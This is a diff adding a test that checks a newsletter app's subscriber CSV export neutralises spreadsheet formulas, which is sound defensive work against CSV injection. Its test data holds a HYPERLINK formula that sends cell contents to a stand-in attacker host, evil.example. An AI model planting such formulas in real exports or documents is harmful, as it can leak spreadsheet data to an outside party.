@@ -86,6 +86,26 @@ def test_it_exports_subscribers_as_csv(client, editor, newsletter, weekly):
     assert row["Subscriptions"] == "The Explainer: confirmed; The Morning Brief: confirmed"
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_the_csv_export_neutralises_cells_a_spreadsheet_would_run(
+    client, editor, newsletter, start
+):
+    """A reader picks their address and an editor names newsletters: a cell starting like a
+    formula is prefixed with ' so a spreadsheet shows it as text (CSV injection)."""
+    formula = f'{start}HYPERLINK("https://evil.example/?"&A1)'
+    newsletter.name = formula
+    newsletter.save()
+    confirmed(newsletter, f"{start}1+2@example.org", "olena@example.org")
+    client.force_login(editor)
+    response = client.get(SUBSCRIBERS, {"export": "csv"})
+    content = b"".join(response.streaming_content).decode()
+    rows = list(csv.DictReader(io.StringIO(content)))
+    emails = sorted(row["Email"] for row in rows)
+    assert emails == sorted([f"'{start}1+2@example.org", "olena@example.org"])
+    for row in rows:
+        assert row["Subscriptions"] == f"'{formula}: confirmed"
+
+
 def test_it_deletes_a_subscriber_with_everything_about_them(client, editor, newsletter, weekly):
     reader, other = confirmed(newsletter, "erase-me@example.org", "stays@example.org")
     confirmed(weekly, "erase-me@example.org")
